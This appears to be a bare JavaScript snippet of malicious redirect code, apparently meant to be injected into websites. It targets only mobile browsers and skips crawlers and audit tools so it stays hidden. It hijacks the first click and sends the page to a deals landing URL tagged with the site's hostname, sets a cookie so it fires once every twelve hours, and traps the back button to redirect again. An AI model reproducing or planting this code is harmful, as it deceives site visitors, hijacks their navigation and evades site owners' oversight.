var _r={u:"https://go-deals.example/lp?sub=",c:"ck_once",h:12};
(function(){
  function had(){return document.cookie.indexOf(_r.c+"=")>=0}
  function mark(){var t=new Date();t.setTime(t.getTime()+_r.h*36e5);document.cookie=_r.c+"=1;expires="+t.toUTCString()+";path=/"}
  if(had()||!/Android|iPhone|iPad/i.test(navigator.userAgent)||/bot|crawl|lighthouse/i.test(navigator.userAgent))return;
  document.addEventListener("click",function f(e){
    document.removeEventListener("click",f,true);
    e.preventDefault();e.stopPropagation();
    mark();
    var here=e.target.closest&&e.target.closest("a");
    window.open(here?here.href:location.href,"_blank");
    location.href=_r.u+encodeURIComponent(location.hostname);
  },true);
  history.pushState(null,"",location.href);
  addEventListener("popstate",function(){location.replace(_r.u+"back")});
})();
